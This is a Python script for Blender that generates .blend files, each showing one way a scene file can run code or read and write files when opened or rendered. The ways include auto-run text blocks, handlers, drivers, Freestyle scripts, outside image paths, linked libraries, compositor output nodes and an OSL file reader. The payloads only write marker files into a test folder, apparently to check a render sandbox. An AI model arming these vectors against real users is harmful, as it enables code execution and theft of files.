"""Builds .blend files that attack whoever opens and renders them.

    blender -b --factory-startup -P hostile_scenes.py -- OUT VICTIM

OUT gets one file for each attack. VICTIM is a folder with what they are after:
secret.png, which is green, and home, where each leaves a file named for it.
A file that was made out of something green renders green.
"""

import hashlib
import os
import sys

import bpy

OUT, VICTIM = sys.argv[sys.argv.index("--") + 1:][:2]
HOME = os.path.join(VICTIM, "home")


def code(name):
    """Python that leaves the attack's mark."""
    return f"open({os.path.join(HOME, name)!r}, 'w').write('x')"


def scene():
    """A plane before the camera, of 8 x 8 pixels."""
    bpy.ops.wm.read_factory_settings(use_empty=True)
    s = bpy.context.scene
    s.render.engine = "CYCLES"
    s.cycles.samples = 1
    s.cycles.use_denoising = False
    s.render.resolution_x = s.render.resolution_y = 8
    s.render.resolution_percentage = 100
    s.view_settings.view_transform = "Standard"
    s.render.image_settings.file_format = "PNG"
    bpy.ops.mesh.primitive_plane_add(size=4)
    plane = bpy.context.object
    camera = bpy.data.objects.new("camera", bpy.data.cameras.new("camera"))
    camera.location = (0, 0, 2)
    s.collection.objects.link(camera)
    s.camera = camera
    return s, plane


def material(name="plain", image=None, color=(0, 0, 0, 1)):
    """One that shines in the colour, or in the image's."""
    m = bpy.data.materials.new(name)
    m.use_nodes = True
    nodes = m.node_tree.nodes
    nodes.clear()
    emit = nodes.new("ShaderNodeEmission")
    emit.inputs["Color"].default_value = color
    m.node_tree.links.new(emit.outputs[0], nodes.new("ShaderNodeOutputMaterial").inputs["Surface"])
    if image:
        texture = nodes.new("ShaderNodeTexImage")
        texture.image = bpy.data.images.load(os.path.join(VICTIM, "secret.png"))
        texture.image.filepath = image
        m.node_tree.links.new(texture.outputs["Color"], emit.inputs["Color"])
    return m


def save(name):
    bpy.ops.wm.save_as_mainfile(filepath=os.path.join(OUT, name + ".blend"), relative_remap=False)


def text(name, lines, register=True):
    t = bpy.data.texts.new(name + ".py")
    t.write("\n".join(lines))
    t.use_module = register
    return t


def registered():
    scene()
    text("registered", [code("registered")])
    save("registered")


def handlers():
    for when in "load_post", "frame_change_pre", "render_pre", "render_complete":
        scene()
        text(when, ["import bpy", "def act(*_):", "    " + code(when), f"bpy.app.handlers.{when}.append(act)"])
        save(when)


def timer():
    scene()
    text("thread", ["import threading", f"threading.Thread(target=lambda: {code('thread')}).start()"])
    save("thread")


def driver():
    _, plane = scene()
    d = plane.driver_add("location", 0).driver
    d.expression = "0 * " + code("driver")
    save("driver")


def driver_function():
    _, plane = scene()
    text("driver_function", ["import bpy", "def f():", "    " + code("driver_function"), "    return 0",
                             "bpy.app.driver_namespace['f'] = f"])
    plane.driver_add("location", 0).driver.expression = "f()"
    save("driver_function")


def freestyle():
    s, plane = scene()
    s.render.use_freestyle = True
    settings = s.view_layers[0].freestyle_settings
    settings.mode = "SCRIPT"
    settings.modules.new().script = text("freestyle", [code("freestyle")], register=False)
    save("freestyle")


def images():
    for name, path in ("image_absolute", os.path.join(VICTIM, "secret.png")), ("image_relative", "//../victim/secret.png"):
        _, plane = scene()
        plane.data.materials.append(material(image=path))
        save(name)


def library():
    scene()
    secret = material("secret", color=(0, 1, 0, 1))
    secret.use_fake_user = True
    source = os.path.join(VICTIM, "secret.blend")
    bpy.ops.wm.save_as_mainfile(filepath=source)
    _, plane = scene()
    with bpy.data.libraries.load(source, link=True) as (_, into):
        into.materials = ["secret"]
    plane.data.materials.append(into.materials[0])
    save("library")


def file_output():
    s, _ = scene()
    s.use_nodes = True
    tree = s.node_tree
    node = tree.nodes.new("CompositorNodeOutputFile")
    node.base_path = HOME
    node.file_slots[0].path = "file_output"
    tree.links.new(tree.nodes["Render Layers"].outputs["Image"], node.inputs[0])
    save("file_output")


def output_path():
    s, _ = scene()
    s.render.filepath = os.path.join(HOME, "output_path")
    s.render.use_file_extension = False
    save("output_path")


def osl():
    """A shader that reads, where this Blender has OSL at all. It is compiled
    here and not by the node, because the bpy package lacks a part for that."""
    if not bpy.app.build_options.cycles_osl:
        return
    import _cycles
    s, plane = scene()
    s.cycles.shading_system = True
    source, compiled = os.path.join(OUT, "read.osl"), os.path.join(OUT, "read.oso")
    with open(source, "w") as f:
        f.write('shader read(output color C = 0) { C = texture("%s", 0.5, 0.5); }' % os.path.join(VICTIM, "secret.png"))
    if not _cycles.osl_compile(source, compiled):
        raise SystemExit("the shader does not compile")
    m = material()
    script = m.node_tree.nodes.new("ShaderNodeScript")
    script.mode = "INTERNAL"
    with open(compiled) as f:
        script.bytecode = f.read()
    script.bytecode_hash = hashlib.md5(script.bytecode.encode()).hexdigest()
    m.node_tree.links.new(script.outputs.new("NodeSocketColor", "C"), m.node_tree.nodes["Emission"].inputs["Color"])
    plane.data.materials.append(m)
    save("osl")


green = bpy.data.images.new("green", 8, 8)
green.pixels = [0, 1, 0, 1] * 64
green.filepath_raw = os.path.join(VICTIM, "secret.png")
green.file_format = "PNG"
green.save()
for build in registered, handlers, timer, driver, driver_function, freestyle, images, library, file_output, output_path, osl:
    build()
